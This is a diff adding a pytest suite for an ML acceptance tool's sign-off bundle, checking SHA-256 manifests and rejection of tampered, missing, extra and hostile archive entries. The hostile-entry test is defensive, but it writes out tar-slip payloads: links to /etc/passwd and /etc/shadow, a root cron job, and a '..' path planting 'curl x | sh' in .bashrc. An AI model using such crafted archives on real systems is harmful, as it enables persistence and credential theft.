@@ -1,0 +1,216 @@
+"""Sign-off bundle: what goes in, and verify against tampered, missing, extra and hostile entries."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import os
+import shutil
+import tarfile
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from mlenv.acceptance import baselines, bundle
+from mlenv.acceptance.result import CheckResult, Status
+from mlenv.cli.app import app
+from mlenv.cli.cmd_bundle import deployment_for, make_bundle
+
+REPO = Path(__file__).resolve().parents[3]
+ENV0 = {"host": "h0", "torch": "2.13.0", "cuda": "12.4", "nccl": "2.21.5", "deepspeed": "0.19.8", "python": "3.11.7",
+        "driver": "550.54.15", "gpu_models": ["NVIDIA H100 80GB HBM3"],
+        "ibv_devinfo": "hca_id:\tmlx5_0\n\tfw_ver:\t\t\t\t28.39.1002\n"}
+
+
+def make_report(d: Path) -> Path:
+    """A finished run's report folder, with rank and NCCL logs and a link that must stay out."""
+    d.mkdir(parents=True)
+    rs = [CheckResult("environment", Status.PASS, "rank", "h0", 0, {"gpu_count": 8.0}, details=ENV0),
+          CheckResult("environment", Status.PASS, "rank", "h1", 1, {"gpu_count": 8.0},
+                      details={"host": "h1", "torch": "2.13.0", "python": "3.11.7"}),
+          CheckResult("compute.matmul", Status.PASS, "rank", "h0", 0, {"tflops_fp32": 0.1})]
+    doc = {"schema_version": 1, "run_id": "20260101-000000-abc123", "started": "2026-01-01T00:00:00+00:00",
+           "finished": "2026-01-01T00:01:00+00:00", "verdict": "PASS", "reasons": [], "profile": "quick",
+           "baseline": f"CPU ({baselines.builtin_dir() / 'cpu.yaml'})",
+           "world": {"nodes": 2, "ranks": 2, "backend": "gloo", "device": "cpu", "hosts": ["h0", "h1"]},
+           "checks": [r.to_dict() for r in rs]}
+    (d / "results.json").write_text(json.dumps(doc))
+    (d / "results.jsonl").write_text("".join(json.dumps(r.to_dict()) + "\n" for r in rs))
+    (d / "junit.xml").write_text("<testsuites/>\n")
+    (d / "summary.md").write_text("# Acceptance: PASS\n\n![tflops.png](tflops.png)\n")
+    (d / "tflops.png").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(64))
+    (d / "logs").mkdir()
+    (d / "logs" / "rank-0.log").write_text("rank 0 says hello\n")
+    (d / "logs" / "nccl-h0-123.log").write_text("NCCL INFO Bootstrap\n")
+    (d / "secret-link").symlink_to("/etc/passwd")
+    return d
+
+
+def members(path: Path) -> dict[str, bytes]:
+    with tarfile.open(path, "r:gz") as tf:
+        return {m.name: (tf.extractfile(m).read() if m.isreg() else b"") for m in tf}  # type: ignore[union-attr]
+
+
+def rewrite(src: Path, dst: Path, change: dict[str, bytes | None], add: list[tarfile.TarInfo] | None = None,
+            add_data: list[bytes] | None = None) -> Path:
+    """Copy a bundle, replacing (bytes) or dropping (None) members, and appending raw entries."""
+    with tarfile.open(src, "r:gz") as tin, tarfile.open(dst, "w:gz") as tout:
+        for m in tin:
+            data = tin.extractfile(m).read() if m.isreg() else b""  # type: ignore[union-attr]
+            rel = m.name.split("/", 1)[1]
+            if rel in change:
+                if change[rel] is None:
+                    continue
+                data = change[rel] or b""
+                m.size = len(data)
+            tout.addfile(m, io.BytesIO(data))
+        for ti, data in zip(add or [], add_data or [], strict=True):
+            tout.addfile(ti, io.BytesIO(data))
+    return dst
+
+
+@pytest.fixture()
+def built(tmp_path: Path) -> tuple[Path, dict]:  # type: ignore[type-arg]
+    report = make_report(tmp_path / "report")
+    return bundle.build(report, baseline=baselines.load(baselines.builtin_dir() / "cpu.yaml"))
+
+
+def test_bundle_holds_every_report_file_logs_and_a_manifest_of_their_sha256(built: tuple[Path, dict]) -> None:  # type: ignore[type-arg]
+    path, index = built
+    assert path.name == "mlenv-bundle-20260101-000000-abc123.tar.gz"
+    m = members(path)
+    top = "mlenv-bundle-20260101-000000-abc123/"
+    assert all(n.startswith(top) for n in m)
+    rel = {n[len(top):]: data for n, data in m.items()}
+    assert set(rel) == {"MANIFEST", "bundle.json", "baseline/cpu.yaml", "run/results.json", "run/results.jsonl",
+                        "run/junit.xml", "run/summary.md", "run/tflops.png", "run/logs/rank-0.log",
+                        "run/logs/nccl-h0-123.log"}
+    manifest = {line[66:]: line[:64] for line in rel["MANIFEST"].decode().splitlines()}
+    assert set(manifest) == set(rel) - {"MANIFEST"}
+    for name, digest in manifest.items():
+        assert hashlib.sha256(rel[name]).hexdigest() == digest, name
+    j = json.loads(rel["bundle.json"])
+    assert j == index
+    assert (j["run_id"], j["verdict"], j["cluster"], j["config"]) == ("20260101-000000-abc123", "PASS", "local", None)
+    assert j["deployment"]["deployed"] is False and "nothing was deployed" in j["deployment"]["note"]
+    assert j["logs"] == ["run/logs/nccl-h0-123.log", "run/logs/rank-0.log"]
+    assert j["left_out"] == ["left out secret-link: a link"]
+    # every threshold with its source, and the file itself
+    assert j["baseline"]["model"] == "CPU" and j["baseline"]["file"] == "baseline/cpu.yaml"
+    assert j["baseline"]["rules"] and all(r["source"] for r in j["baseline"]["rules"])
+    assert {(r["check"], r["metric"], r["op"]) for r in j["baseline"]["rules"]} >= {("compute.matmul", "tflops_fp32", ">")}
+    # versions per node, "not present" where the node did not have it
+    assert j["versions"]["h0"]["driver"] == "550.54.15" and j["versions"]["h0"]["hca_firmware"] == "mlx5_0: 28.39.1002"
+    assert j["versions"]["h1"]["driver"] == "not present" and j["versions"]["h1"]["vbios"] == "not present"
+
+
+def test_an_untouched_bundle_verifies_and_the_cli_says_ok(built: tuple[Path, dict]) -> None:  # type: ignore[type-arg]
+    path, _ = built
+    assert bundle.verify(path) == []
+    r = CliRunner().invoke(app, ["bundle", "verify", str(path)])
+    assert r.exit_code == 0 and "OK" in r.stdout
+
+
+def test_a_tampered_file_is_named_and_exits_1(built: tuple[Path, dict], tmp_path: Path) -> None:  # type: ignore[type-arg]
+    path, _ = built
+    doc = json.loads(members(path)[f"{bundle.top_dir('20260101-000000-abc123')}/run/results.json"])
+    doc["verdict"] = "PASS"
+    doc["checks"][2]["metrics"]["tflops_fp32"] = 9.9  # a better number than measured
+    bad = rewrite(path, tmp_path / "bad.tar.gz", {"run/results.json": json.dumps(doc).encode()})
+    problems = bundle.verify(bad)
+    assert len(problems) == 1 and problems[0].startswith("tampered: run/results.json (sha256 ")
+    r = CliRunner().invoke(app, ["bundle", "verify", str(bad)])
+    assert r.exit_code == 1
+    assert "tampered: run/results.json" in r.stderr and "does NOT verify" in r.stderr and "Traceback" not in r.output
+
+
+def test_missing_and_extra_files_are_named(built: tuple[Path, dict], tmp_path: Path) -> None:  # type: ignore[type-arg]
+    path, _ = built
+    top = bundle.top_dir("20260101-000000-abc123")
+    extra = tarfile.TarInfo(f"{top}/run/fix.sh")
+    extra.size = 3
+    bad = rewrite(path, tmp_path / "bad.tar.gz", {"run/junit.xml": None}, [extra], [b"rm\n"])
+    assert bundle.verify(bad) == ["missing: run/junit.xml (listed in MANIFEST)", "extra: run/fix.sh (not in MANIFEST)"]
+    # without its MANIFEST nothing can be checked: said so, never "OK"
+    no_manifest = rewrite(path, tmp_path / "nm.tar.gz", {"MANIFEST": None})
+    assert bundle.verify(no_manifest)[-1] == "missing: MANIFEST (nothing to verify against)"
+
+
+@pytest.mark.parametrize("kind", ["symlink", "hardlink", "absolute", "dotdot", "device", "duplicate"])
+def test_hostile_entries_are_refused(built: tuple[Path, dict], tmp_path: Path, kind: str) -> None:  # type: ignore[type-arg]
+    path, _ = built
+    top = bundle.top_dir("20260101-000000-abc123")
+    ti = tarfile.TarInfo(f"{top}/run/evil")
+    data = b""
+    if kind == "symlink":
+        ti.type, ti.linkname = tarfile.SYMTYPE, "/etc/passwd"
+    elif kind == "hardlink":
+        ti.type, ti.linkname = tarfile.LNKTYPE, "/etc/shadow"
+    elif kind == "absolute":
+        ti.name, data = "/etc/cron.d/evil", b"* * * * * root sh\n"
+    elif kind == "dotdot":
+        ti.name, data = f"{top}/../../.bashrc", b"curl x | sh\n"
+    elif kind == "device":
+        ti.type = tarfile.CHRTYPE
+    else:
+        ti.name, data = f"{top}/run/results.json", b"{}"
+    ti.size = len(data)
+    bad = rewrite(path, tmp_path / "bad.tar.gz", {}, [ti], [data])
+    problems = bundle.verify(bad)
+    assert problems and problems[0].startswith("refused: "), problems
+    want = {"symlink": "a link", "hardlink": "a link", "absolute": "absolute path", "dotdot": "'..' in the path",
+            "device": "not a regular file", "duplicate": "appears twice"}[kind]
+    assert want in problems[0]
+    with pytest.raises(bundle.BundleError, match="refused"):
+        bundle.read_member(bad, "run/results.json")
+
+
+def test_a_file_that_is_no_archive_is_unreadable_not_a_traceback(tmp_path: Path) -> None:
+    junk = tmp_path / "junk.tar.gz"
+    junk.write_bytes(b"\x1f\x8b\x08\x00garbage")
+    assert bundle.verify(junk)[0].startswith("unreadable: ")
+    r = CliRunner().invoke(app, ["bundle", "verify", str(junk)])
+    assert r.exit_code == 1 and "Traceback" not in r.output
+    r = CliRunner().invoke(app, ["bundle", "verify", str(tmp_path / "nope.tar.gz")])
+    assert r.exit_code == 2 and "no such file" in r.stderr
+    r = CliRunner().invoke(app, ["bundle", str(tmp_path / "no-run")])
+    assert r.exit_code == 2 and "no such report folder" in r.stderr
+
+
+def test_cluster_bundle_holds_config_and_manifests_compared_with_a_fresh_render(tmp_path: Path) -> None:
+    """The committed k8s/ tree matches; a hand-edited, a missing and an extra file are each named."""
+    (config, dep, files) = deployment_for("barcelona", REPO, None)
+    assert config[0] == "clusters/barcelona.yaml" and config[1] == (REPO / "clusters/barcelona.yaml").read_bytes()
+    assert [t["mode"] for t in dep["trees"]] == ["rdma", "tcp"] and all(t["matches_render"] for t in dep["trees"])
+    assert files and all(a.startswith(("deployed/rdma/", "deployed/tcp/")) for a in files)
+
+    root = tmp_path / "repo"
+    shutil.copytree(REPO / "clusters", root / "clusters", symlinks=True)
+    shutil.copytree(REPO / "k8s" / "barcelona" / "tcp", root / "k8s" / "barcelona" / "tcp")
+    sts = root / "k8s/barcelona/tcp/statefulset.yaml"
+    sts.write_text(sts.read_text().replace("replicas: ", "replicas: 9"))
+    (root / "k8s/barcelona/tcp/service.yaml").unlink()
+    (root / "k8s/barcelona/tcp/extra.yaml").write_text("kind: ConfigMap\n")
+    report = make_report(tmp_path / "report")
+    out, index = make_bundle(report, tmp_path / "b.tar.gz", cluster="barcelona", mode="tcp", root=root)
+    (tree,) = index["deployment"]["trees"]
+    states = {f["name"]: f["state"] for f in tree["files"]}
+    assert (states["statefulset.yaml"], states["service.yaml"], states["extra.yaml"]) == \
+           ("differs", "missing", "not rendered")
+    assert tree["matches_render"] is False
+    assert index["config"]["sha256"] == hashlib.sha256((root / "clusters/barcelona.yaml").read_bytes()).hexdigest()
+    m = members(out)
+    top = bundle.top_dir("20260101-000000-abc123")
+    assert m[f"{top}/deployed/tcp/statefulset.yaml"] == sts.read_bytes()
+    assert m[f"{top}/config/barcelona.yaml"] == (root / "clusters/barcelona.yaml").read_bytes()
+    assert bundle.verify(out) == []
+
+
+def test_unknown_cluster_named_on_the_command_line_exits_2(tmp_path: Path) -> None:
+    report = make_report(tmp_path / "report")
+    r = CliRunner().invoke(app, ["bundle", str(report), "--cluster", "nope"], env={"MLENV_ROOT": str(REPO)})
+    assert r.exit_code == 2 and "unknown cluster 'nope'" in r.stderr
+    r = CliRunner().invoke(app, ["bundle", str(report), "--cluster", "../../etc"], env={"MLENV_ROOT": str(REPO)})
+    assert r.exit_code == 2 and "expected a cluster name" in r.stderr
